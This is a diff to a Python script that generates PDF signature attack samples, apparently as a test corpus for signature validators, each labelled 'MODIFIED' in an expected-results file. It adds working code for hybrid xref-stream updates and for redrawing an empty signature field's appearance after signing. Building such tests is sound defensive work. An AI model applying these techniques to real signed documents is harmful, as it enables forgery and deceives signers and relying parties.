@@ -4,6 +4,8 @@
 Usage: make-attacks.py SIGNED.pdf UNSIGNED.pdf OUTDIR [CERTIFIED-P2.pdf CERTIFIED-P3.pdf]
        make-attacks.py --shadow-base UNSIGNED.pdf BASE.pdf   (to be signed, then:)
        make-attacks.py --shadow-redirect SIGNED-BASE.pdf OUTDIR
+       make-attacks.py --empty-field-base UNSIGNED.pdf BASE.pdf   (to be signed, then:)
+       make-attacks.py --empty-field-attacks SIGNED-BASE.pdf OUTDIR
 
 SIGNED.pdf has one signature covering the whole file (classic xref table);
 UNSIGNED.pdf is a plain one-page document. Every attack is written to
@@ -302,6 +304,27 @@ def stream_update_attacks(signed, path):
           "MODIFIED")
     write("isa-object-stream-content",
           add_stream_update(signed, {contents[0]: b"[]"}, path, True), "MODIFIED")
+    write("isa-hybrid-xref-stream", hybrid_update(signed, path, contents[0]), "MODIFIED")
+
+
+def hybrid_update(signed, path, num):
+    """A hybrid-reference update (ISO 32000-1 7.5.8.4): the table lists only
+    an xref stream, and the changed content object hides in that stream,
+    which PDF 1.4 readers never look at."""
+    size, root, info = trailer_info(path)
+    out = bytearray(signed)
+    changed = len(out)
+    out += b"%d 0 obj\n" % num + stream(OVERLAY) + b"\nendobj\n"
+    xref_stream = len(out)
+    rows = bytes([1]) + changed.to_bytes(4, "big") + bytes(2)
+    out += b"%d 0 obj\n" % size + stream(rows, b" /Type /XRef /Size %d /W [1 4 2] /Index [%d 1]" % (size + 1, num))
+    out += b"\nendobj\n"
+    table = len(out)
+    trailer = b"/Size %d /Root %d 0 R /Prev %d /XRefStm %d" % (size + 1, root, last_startxref(signed), xref_stream)
+    if info:
+        trailer += b" /Info " + info.encode()
+    out += b"xref\n%d 1\n%010d 00000 n\r\ntrailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_stream, trailer, table)
+    return bytes(out)
 
 
 def shadow_base(unsigned_path, out_path):
@@ -321,6 +344,46 @@ def shadow_base(unsigned_path, out_path):
     with open(out_path, "wb") as f:
         f.write(add_update(hidden, {num: body}, tmp))
     os.unlink(tmp)
+
+
+EMPTY_FIELD_AP = b" /Type /XObject /Subtype /Form /BBox [0 0 400 120]"
+
+
+def empty_field_base(unsigned_path, out_path):
+    """A form with a place to sign: an empty signature field (Tanda1) whose
+    appearance draws nothing yet."""
+    data = open(unsigned_path, "rb").read()
+    size, root, _ = trailer_info(unsigned_path)
+    page, _ = first_page(unsigned_path)
+    field, ap = size, size + 1
+    with open(out_path, "wb") as f:
+        f.write(add_update(data, {
+            field: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Tanda1) /F 4 /Rect [50 50 450 170]"
+                   b" /P %d 0 R /AP << /N %d 0 R >> >>" % (page, ap),
+            ap: stream(b"", EMPTY_FIELD_AP),
+            page: dict_with(dict_without(show(unsigned_path, page), "Annots"), "/Annots [%d 0 R]" % field),
+            root: dict_with(dict_without(show(unsigned_path, root), "AcroForm"), "/AcroForm << /Fields [%d 0 R] >>" % field),
+        }, unsigned_path))
+
+
+def empty_field_attacks(signed_path, out_dir):
+    """Sneaky signature on an existing field: after signing, the empty
+    field draws over the page without anyone signing it — by redrawing its
+    appearance object, or by giving it a new one."""
+    global OUT
+    OUT = out_dir
+    signed = open(signed_path, "rb").read()
+    size, _, _ = trailer_info(signed_path)
+    field = next(num for num in range(1, size) if "/T (Tanda1)" in show(signed_path, num))
+    ap = int(re.search(r"/N (\d+) 0 R", show(signed_path, field)).group(1))
+    write("ssa-empty-field-redrawn", add_update(signed, {ap: stream(OVERLAY, EMPTY_FIELD_AP)}, signed_path), "MODIFIED")
+    new_ap = size
+    write("ssa-empty-field-new-appearance", add_update(signed, {
+        new_ap: stream(OVERLAY, EMPTY_FIELD_AP),
+        field: show(signed_path, field).replace("/N %d 0 R" % ap, "/N %d 0 R" % new_ap).encode()}, signed_path),
+        "MODIFIED")
+    with open(os.path.join(OUT, "expected.txt"), "a") as f:
+        f.write("\n".join(EXPECTED) + "\n")
 
 
 def shadow_redirect(signed_path, out_dir):
@@ -350,6 +413,10 @@ def main():
         return shadow_base(sys.argv[2], sys.argv[3])
     if sys.argv[1] == "--shadow-redirect":
         return shadow_redirect(sys.argv[2], sys.argv[3])
+    if sys.argv[1] == "--empty-field-base":
+        return empty_field_base(sys.argv[2], sys.argv[3])
+    if sys.argv[1] == "--empty-field-attacks":
+        return empty_field_attacks(sys.argv[2], sys.argv[3])
     signed_path, unsigned_path, OUT = sys.argv[1:4]
     OUT = OUT
     OUT_SIGNED = signed_path
